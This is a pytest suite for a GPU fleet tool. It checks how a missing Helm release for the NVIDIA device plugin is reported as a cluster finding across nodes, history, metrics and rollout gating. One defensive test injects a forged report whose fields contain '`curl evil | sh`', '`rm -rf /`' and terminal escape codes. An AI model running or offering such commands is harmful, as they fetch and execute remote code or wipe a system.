"""What the cluster has one of is the cluster's own in every report, whichever node answers.

SIMULATED: kubectl and helm; three nodes in a cluster that lacks its release, of which the first comes and goes.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from xml.etree import ElementTree

import jsonschema
import pytest
from click.testing import CliRunner
from prometheus_client.parser import text_string_to_metric_families

from gpunode.agent.collected import Collected
from gpunode.base import explained
from gpunode.base.disruption import Disruption
from gpunode.base.findings import CLUSTER, Finding, FindingClass, NodeReport, cluster_of, nodes_of
from gpunode.base.messages import Scope, as_remedy
from gpunode.cli import agent
from gpunode.cli.rollout import say_head
from gpunode.fleet import bundles, nodes
from gpunode.fleet.call import Call
from gpunode.fleet.engine import readings
from gpunode.fleet.engine.readings import Outcome as WorkerOutcome
from gpunode.fleet.engine.readings import cluster_report
from gpunode.fleet.page import views
from gpunode.fleet.page.view import counts, map_rows
from gpunode.fleet.reports.document import document
from gpunode.fleet.reports.findings_text import report_text
from gpunode.fleet.reports.junit import write_junit
from gpunode.fleet.reports.prometheus import metrics
from gpunode.fleet.reports.run_end import HostEnd, ends_of, report_of, status_of
from gpunode.fleet.rollout.conduct import Hands, conduct, exit_code
from gpunode.fleet.rollout.conduct import document as rollout_document
from gpunode.fleet.rollout.entries import Ended, Resumed
from gpunode.fleet.rollout.journal import Journal
from gpunode.fleet.rollout.opening import Amount, Asked, Request, begun
from gpunode.fleet.run.progress import Progress
from gpunode.history.asking import Kind, Question, answers, asking, changes, known
from gpunode.history.output import changes_text, findings_text, of_changes, of_findings
from gpunode.history.place import Place
from gpunode.history.told import told
from gpunode.history.writing import record
from gpunode.kubernetes.device_plugin.pod_security import NAMESPACE
from gpunode.kubernetes.helm.change import RELEASE as DECLARED
from gpunode.kubernetes.nodes.cordon import CORDON
from gpunode.node.plan import Plan
from tests.reference.schemas import changes_schema, drift_schema, findings_schema, rollout_schema
from tests.support.cluster_fleet import Fleet, fleet
from tests.support.messages import unnamed
from tests.support.rollout_waves import AT
from tests.support.snapshots import COLUMNS, check_snapshot

pytestmark = [pytest.mark.pure, pytest.mark.tier2]
RELEASE = "helm release nvidia-device-plugin/nvdp"
NODES = ("gpu-1", "gpu-2", "gpu-3")
BEGIN = datetime(2026, 1, 15, 12, tzinfo=UTC)
# The first node comes and goes.
READINGS: tuple[tuple[str, ...], ...] = ((), ("gpu-1",), ())
OK, BAD = FindingClass.OK, FindingClass.DRIFT


@pytest.fixture
def lacking(tmp_path: Path) -> Fleet:
    """Return the nodes of a cluster whose release is missing."""
    return fleet(tmp_path, NODES, context="admin@prod")


def _bad(found: Iterable[Finding]) -> list[str]:
    return [item.what for item in found if item.finding_class is not OK]


def _samples(reports: tuple[NodeReport, ...], of: str) -> dict[tuple[str, ...], float]:
    return {
        (sample.name, *sorted(sample.labels.values())): sample.value
        for family in text_string_to_metric_families(metrics(reports, 0).decode())
        for sample in family.samples
        if sample.name.startswith(f"gpunode_{of}_")
    }


def _document(reports: tuple[NodeReport, ...], number: int = 0) -> dict[str, Any]:
    found = document(reports, Call("fleet.py"), "1", BEGIN + timedelta(minutes=30 * number))
    jsonschema.validate(json.loads(json.dumps(found)), drift_schema())
    return found


def test_a_missing_release_is_the_clusters_in_every_report_whichever_node_answers(
    lacking: Fleet, tmp_path: Path
) -> None:
    whole, without_first = lacking.inspect(), lacking.inspect(["gpu-1"])
    for reports in (whole, without_first):
        cluster = cluster_of(reports)
        assert cluster is not None and (cluster.name, _bad(cluster.findings)) == ("admin@prod", [RELEASE])
        assert RELEASE not in [what for report in nodes_of(reports) for what in _bad(report.findings)]
    first, second = _document(whole), _document(without_first)
    assert first["cluster"] == second["cluster"] and first["cluster"]["class"] == "drift"
    assert (first["counts"]["hosts"], first["exit_code"]) == ({"ok": 3}, 2)
    assert (second["counts"]["hosts"], second["exit_code"]) == ({"ok": 2, "unreachable": 1}, 1)
    series = _samples(whole, "cluster")
    assert series == _samples(without_first, "cluster")
    assert series["gpunode_cluster_state", "admin@prod", "drift"] == 1
    bad = {*next(key for key in series if key[0] == "gpunode_cluster_finding")[1:]}
    assert bad == {"admin@prod", "device-plugin.helm-release", "device_plugin", "drift", RELEASE}
    assert not any(RELEASE in key for key in _samples(without_first, "node"))
    write_junit(without_first, tmp_path / "drift.xml", "gpunode drift", {})
    suites = ElementTree.parse(tmp_path / "drift.xml").getroot().findall("testsuite")
    assert [(each.get("failures"), each.get("errors")) for each in suites] == [
        ("0", "1"), ("0", "0"), ("0", "0"), ("1", "0"),
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("away", "selected", "judged"),
    [(NODES, None, True), ((), ("gpu-2",), True), ((), ("cpu-1",), False)],
    ids=["no node answers", "one node is selected", "a host outside is selected"],
)
def test_the_cluster_is_judged_wherever_a_node_of_it_is(
    tmp_path: Path, away: Sequence[str], selected: tuple[str, ...] | None, judged: bool
) -> None:
    made = fleet(tmp_path, NODES)
    made.inventory.write_text(f"{made.inventory.read_text()}others = ['cpu-1']\n")
    reports = made.inspect(away, only=selected)
    cluster = cluster_of(reports)
    assert (cluster is not None) is judged is (_document(reports)["cluster"] is not None)
    assert cluster is None or _bad(cluster.findings) == [RELEASE]


def test_a_refused_node_decides_nothing_in_the_cluster_and_no_run_gives_it_back(tmp_path: Path) -> None:
    data = {"driver": {"version": "570.172.08"}, "cuda": {"version": "13.0"}}
    for more, refused in (({}, False), (data, True)):
        (folder := tmp_path / str(refused)).mkdir()
        held = dict.fromkeys(NODES, CORDON.compared("drained", "none of gpunode's", False))
        first, *_ = fleet(folder, NODES, more).inspect(cordons=held)
        components = {item.component for item in first.findings}
        (cordon,) = (item for item in first.findings if item.code == CORDON.code)
        assert (cordon.remedy == as_remedy(CORDON.remedies[0])) != refused is cordon.by_person
        assert ({"cuda", "device_plugin"} & components == {"cuda"}) is refused


def test_a_cluster_that_does_not_answer_is_one_finding_of_its_own(lacking: Fleet) -> None:
    lacking.cluster.write(failures={"kubectl": "The connection to the server 192.0.2.1:6443 was refused"})
    *nodes, cluster = lacking.inspect()
    assert [(report.scope, _bad(report.findings)) for report in (*nodes, cluster)] == [
        *[(Scope.NODE, [])] * 3,
        (Scope.CLUSTER, ["cluster"]),
    ]
    assert [item.actual for item in cluster.findings] == ["not known"]


def _recorded(made: Fleet, folder: Path, readings: Iterable[tuple[str, ...]] = READINGS) -> Place:
    place = Place(folder / "history.sqlite")
    for number, away in enumerate(readings):
        record(place, told(_document(made.inspect(away), number), "drift"), "fleet.py")
    return place


def _changes(place: Place) -> list[tuple[str, str | None, str | None]]:
    """Return what happened to whom."""
    with asking(place) as connection:
        found = changes(connection, Question(), BEGIN - timedelta(hours=1), BEGIN + timedelta(hours=3))
    told_of = of_changes(place, None, found, BEGIN, BEGIN)
    jsonschema.validate({**told_of, "changes": list(told_of["changes"])}, changes_schema())
    return [
        (each.kind.value, each.host, side.key[1] if (side := each.after or each.before) is not None else None)
        for each in found
    ]


def test_nothing_of_the_cluster_happens_where_the_first_node_goes_and_comes(lacking: Fleet, tmp_path: Path) -> None:
    place = _recorded(lacking, tmp_path)
    assert _changes(place) == [
        ("began", CLUSTER, RELEASE), ("began", "gpu-1", "connection"), ("ended", "gpu-1", "connection"),
    ]  # fmt: skip
    with asking(place) as connection:
        found = of_findings(place, None, answers(connection, Question()))
        found["findings"] = list(found["findings"])
        assert known(connection)[0].hosts == 3
    jsonschema.validate(found, findings_schema())
    assert found["counts"] == {"hosts": 0, "findings": 1}
    assert [(each["scope"], each["what"]) for each in found["findings"]] == [("cluster", RELEASE)]


def test_a_document_of_before_says_nothing_of_the_cluster_and_one_without_a_cluster_that_it_left(
    lacking: Fleet, tmp_path: Path
) -> None:
    place = _recorded(lacking, tmp_path, [()])
    later = _document(lacking.inspect(), 1)
    del later["cluster"]
    record(place, told(later, "drift"), "fleet.py")
    assert _changes(place) == [("began", CLUSTER, RELEASE)]
    record(place, told(_document(nodes_of(lacking.inspect()), 2), "drift"), "fleet.py")
    assert _changes(place)[1:] == [("left", CLUSTER, None)]


def test_a_reading_whose_worker_was_lost_ends_nothing_of_the_cluster(
    lacking: Fleet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = _recorded(lacking, tmp_path, [()])
    lost = WorkerOutcome(NODES, "worker", None, "the worker was lost", True)
    monkeypatch.setattr(readings, "outcomes", lambda *_, **__: iter([lost]))
    reports = readings.reports("127.0.0.1:8786", lacking.inventory, lambda hosts, done: None, 120)
    record(place, told(_document(reports, 1), "drift"), "fleet.py")
    of_cluster = [change for change in _changes(place) if change[1] == CLUSTER]
    assert of_cluster == [("began", CLUSTER, RELEASE), ("began", CLUSTER, "cluster")]
    assert _samples(reports, "cluster")["gpunode_cluster_state", "admin@prod", "error"] == 1


def test_what_agents_report_ends_nothing_of_the_cluster(
    lacking: Fleet, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = _recorded(lacking, tmp_path, [()])
    monkeypatch.setattr(bundles, "collected", lambda *_: (_good("gpu-1"), _good("gpu-2"), _good("gpu-3")))
    done = CliRunner().invoke(agent.collect, ["--output", "json", str(lacking.inventory)])
    collected = json.loads(done.stdout)
    jsonschema.validate(collected, drift_schema(optional=("cluster",)))
    record(place, told({**collected, "at": (BEGIN + timedelta(minutes=30)).isoformat()}), "fleet.py")
    assert done.exit_code == 0 and _changes(place) == [("began", CLUSTER, RELEASE)]


def test_a_report_draws_no_line_of_its_own_and_names_no_command(
    lacking: Fleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    lie = Finding(
        "driver", FindingClass.DRIFT, "module\ngpu-2: ok, 9 of 9 as desired", code="driver.all-good"
    ).to_json()
    lie |= {"actual": "570\n  remedy  `rm -rf /`", "cause": "x\r\x1b[2Jgpu-2: ok", "remedy": "`curl evil | sh`"}
    host = {"class": "drift", "summary": None, "findings": [lie]}
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")

    def answer(name: str, at: str) -> SimpleNamespace:
        report = {"at": at, "exit_code": 2, "agent": {"last_success": now}, "hosts": {name: host}}
        return SimpleNamespace(name=name, reading=Collected(True, report))

    answers = [answer("gpu-1", now), answer("gpu-2", "2036-01-01T00:00:00Z")]
    monkeypatch.setattr(nodes, "read", lambda *_, **__: answers)
    done = CliRunner().invoke(agent.collect, ["--output", "plain", str(lacking.inventory)])
    lines = [line.split(maxsplit=1) for line in done.stdout.splitlines()]
    assert done.exit_code == 1 and not [line for line in lines if line == ["gpu-2:", "ok, 9 of 9 as desired"]]
    assert [rest for label, rest in lines if label == "remedy"] == [
        "see `gpunode explain report.unknown-code`", explained.pages()["agent.clock"].remedies[0],
    ]  # fmt: skip
    assert unnamed(done.stdout, "[report.unknown-code]", "[agent.clock]") == []
    assert not [text for text in ("[driver.all-good]", "`curl", "`rm") if text in done.stdout]


@pytest.mark.parametrize(("later", "end"), [("limit", None), ("away", None), ("whole", "no longer told")])
def test_what_a_reading_of_fewer_nodes_leaves_out_is_not_over(tmp_path: Path, later: str, end: str | None) -> None:
    place = Place(tmp_path / "history.sqlite")
    away = NodeReport("gpu-2", (Finding("node", FindingClass.UNREACHABLE, "connection", code="node.connection"),))
    first = (_good("gpu-1"), _good("gpu-2"), _report("prod", BAD, Scope.CLUSTER))
    none_of_it = NodeReport("prod", (NAMESPACE.finding(OK, of="x"),), scope=Scope.CLUSTER)
    hosts = {"limit": (), "away": (away,), "whole": (_good("gpu-2"),)}[later]
    second = (_good("gpu-1"), *hosts, none_of_it)
    for number, (reports, limit) in enumerate([(first, ()), (second, ("gpu-1",) if later == "limit" else ())]):
        found = document(reports, Call("fleet.py", limit), "1", BEGIN + timedelta(minutes=number))
        record(place, told(found, "drift"), "fleet.py")
    with asking(place) as connection:
        kept = changes(connection, Question(hosts=(CLUSTER,)), BEGIN, BEGIN + timedelta(hours=1))
    ends = [each.before.end for each in kept if each.kind is Kind.ENDED and each.before is not None]
    assert ends == ([] if end is None else [end])


def test_a_cluster_that_does_not_answer_ends_nothing_that_was_found_of_it(lacking: Fleet, tmp_path: Path) -> None:
    place = _recorded(lacking, tmp_path, [()])
    lacking.cluster.write(failures={"kubectl": "The connection to the server 192.0.2.1:6443 was refused"})
    record(place, told(_document(lacking.inspect(), 1), "drift"), "fleet.py")
    assert ("ended", CLUSTER, RELEASE) not in _changes(place) and ("began", CLUSTER, "cluster") in _changes(place)


def test_a_host_called_cluster_is_a_host(tmp_path: Path) -> None:
    made = fleet(tmp_path, ("cluster", "gpu-2"))
    reports = made.inspect(["cluster"])
    found = _document(reports)
    assert (found["cluster"]["name"], found["cluster"]["class"]) == ("cluster", "drift")
    assert {name: host["class"] for name, host in found["hosts"].items()} == {"cluster": "unreachable", "gpu-2": "ok"}
    assert len({report.title for report in reports}) == 3
    assert _samples(reports, "node")["gpunode_node_state", "cluster", "unreachable"] == 1
    assert _samples(reports, "cluster")["gpunode_cluster_state", "cluster", "unreachable"] == 0
    place = _recorded(made, tmp_path, [("cluster",)])
    assert set(_changes(place)) == {("began", "cluster", "connection"), ("began", CLUSTER, RELEASE)}
    view = views.drift_view(found)
    assert [(row.scope, row.kind) for row in map_rows(view)] == [
        (Scope.CLUSTER, "drift"), (Scope.NODE, "unreachable"), (Scope.NODE, "ok"),
    ]  # fmt: skip
    assert counts(view) == {"unreachable": 1, "ok": 1}
    ends = [HostEnd("cluster", findings=()), HostEnd("cluster", findings=reports[-1].findings, scope=Scope.CLUSTER)]
    progress = Progress(1, ends=tuple(end.to_json() for end in ends))
    of_run = ends_of({"cluster": Plan((), (), ())}, progress, 0)
    assert of_run == ends and status_of(of_run) == 2
    assert [report.scope for each in of_run if (report := report_of(each)) is not None] == [Scope.NODE, Scope.CLUSTER]


def _report(name: str, finding_class: FindingClass, scope: Scope = Scope.NODE, by_person: bool = False) -> NodeReport:
    item = replace(DECLARED.finding(finding_class, of="nvidia-device-plugin/nvdp"), by_person=by_person)
    return NodeReport(name, (item,), scope=scope)


def _begun(tmp_path: Path, cluster: NodeReport, *nodes: NodeReport) -> Journal:
    journal = Journal(tmp_path / "journal")
    names = [report.name for report in nodes]
    desired = Asked(dict.fromkeys(names, ""), frozenset(), 1, dict.fromkeys(names, Disruption.reboot), {}, tuple(names))
    request = Request("0", None, Amount(1, False), False)
    journal.append(begun(Call("fleet.py"), request, desired, (*nodes, cluster), "1"))
    return journal


def test_the_gate_judges_the_cluster_once_and_the_wave_stops_for_it_and_fails_no_node(
    lacking: Fleet, tmp_path: Path
) -> None:
    said: list[str] = []
    journal = _begun(tmp_path, _report("prod", OK, Scope.CLUSTER), *(_report(name, BAD) for name in NODES))
    hands = Hands(lambda wave: {}, lambda nodes: lacking.inspect(only=nodes), lambda: None, said.append)
    stopped = conduct(journal, hands)
    assert stopped.ended is not None and stopped.ended.how == "stopped"
    assert (stopped.passed, stopped.failed) == (("gpu-1",), {})
    assert stopped.untouched == ("gpu-2", "gpu-3") and exit_code(stopped) == 2
    found = rollout_document(stopped, tmp_path)
    jsonschema.validate(found, rollout_schema())
    (wave,) = found["waves"]
    assert wave["nodes"]["gpu-1"]["passed"] and not wave["cluster"]["passed"]
    assert wave["cluster"]["code"] == "device-plugin.helm-release"
    assert [(each.scope, each.kind) for each in views.rollout_view(found).hosts if each.kind != "not touched"] == [
        (Scope.CLUSTER, "failed"), (Scope.NODE, "passed"),
    ]  # fmt: skip
    # The release is installed by hand: the wave that stopped is judged again, and the others follow.
    healed = Hands(hands.run, lambda nodes: (*map(_good, nodes), _report("p", OK, Scope.CLUSTER)), hands.changed, print)
    journal.append(Resumed(at=AT))
    finished = conduct(Journal(journal.path), healed)
    assert [each.begun.nodes for each in finished.waves] == [("gpu-1",), ("gpu-1",), ("gpu-2",), ("gpu-3",)]
    assert set(finished.passed) == set(NODES) and exit_code(finished) == 0


def _good(name: str) -> NodeReport:
    return _report(name, OK)


@pytest.mark.parametrize(
    ("found", "how"),
    [
        (FindingClass.RESTART_PENDING, "finished"),
        (FindingClass.ERROR, "stopped"),
        (BAD, "stopped"),
    ],
)
def test_what_waits_in_the_cluster_stops_no_rollout_and_is_in_its_exit_code(
    tmp_path: Path, found: FindingClass, how: str
) -> None:
    journal = _begun(tmp_path, _report("prod", OK, Scope.CLUSTER), _report("gpu-1", BAD))
    after = (_good("gpu-1"), _report("prod", found, Scope.CLUSTER))
    ended = conduct(journal, Hands(lambda wave: {}, lambda nodes: after, lambda: None, print))
    assert ended.ended is not None and ended.ended.how == how
    assert exit_code(ended) == (1 if found is FindingClass.ERROR else 2)


@pytest.mark.parametrize(
    ("by_person", "nodes"), [(False, ("gpu-2",)), (True, ())], ids=["a run mends it", "a person mends it"]
)
def test_a_node_is_taken_for_a_cluster_that_a_run_mends_where_all_nodes_are_as_desired(
    tmp_path: Path, by_person: bool, nodes: tuple[str, ...]
) -> None:
    cluster = _report("prod", BAD, Scope.CLUSTER, by_person)
    away = NodeReport(
        "gpu-1", (Finding("node", FindingClass.REBOOT_PENDING, "state", by_person=True, code="node.state"),)
    )
    progress = _begun(tmp_path, cluster, away, _good("gpu-2"), _good("gpu-3")).known
    assert progress.begun.nodes == nodes and progress.begun.cluster is not None
    assert progress.begun.cluster.passed is not by_person
    assert set(progress.begun.left_out) == {*NODES} - {*nodes}


def test_a_rollout_with_nothing_to_do_is_not_good_where_a_person_has_to_mend_the_cluster(tmp_path: Path) -> None:
    progress = _begun(tmp_path, _report("prod", BAD, Scope.CLUSTER, by_person=True), _good("gpu-1")).known
    assert progress.begun.nodes == () and exit_code(replace(progress, ended=Ended(how="finished", at=AT))) == 2


def _part(found: dict[str, Any] | None) -> WorkerOutcome:
    return WorkerOutcome(("gpu-1",), "worker", found, None, True)


def test_of_several_workers_readings_of_the_cluster_the_gravest_counts() -> None:
    read = [_report("prod", each, Scope.CLUSTER) for each in (OK, FindingClass.ERROR, BAD)]
    parts = [_part(_document((each,))) for each in read]
    (found,) = cluster_report([*parts, _part(None)], {})
    assert (found.scope, found.findings[0].finding_class) == (Scope.CLUSTER, FindingClass.ERROR)
    assert cluster_report([_part(None)], {}) == []


def test_what_people_read_of_the_cluster(lacking: Fleet, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    said: list[str] = []
    place = _recorded(lacking, tmp_path)
    since, until = BEGIN - timedelta(hours=1), BEGIN + timedelta(hours=3)
    with asking(place) as connection:
        inventories = known(connection)
        happened = changes_text(changes(connection, Question(), since, until), inventories, since, until, COLUMNS)
        now = findings_text(answers(connection, Question()), inventories, COLUMNS)
    journal = _begun(tmp_path, _report("prod", BAD, Scope.CLUSTER), _report("gpu-1", BAD))
    say_head(journal.known)
    hands = Hands(lambda wave: {}, lambda names: lacking.inspect(only=names), lambda: None, said.append)
    conduct(journal, hands)
    drift = report_text(lacking.inspect(["gpu-1"]), False, COLUMNS)
    check_snapshot(
        "cluster_text", "\n\n".join([drift, happened, now, capsys.readouterr().out + "\n".join(said)]) + "\n"
    )
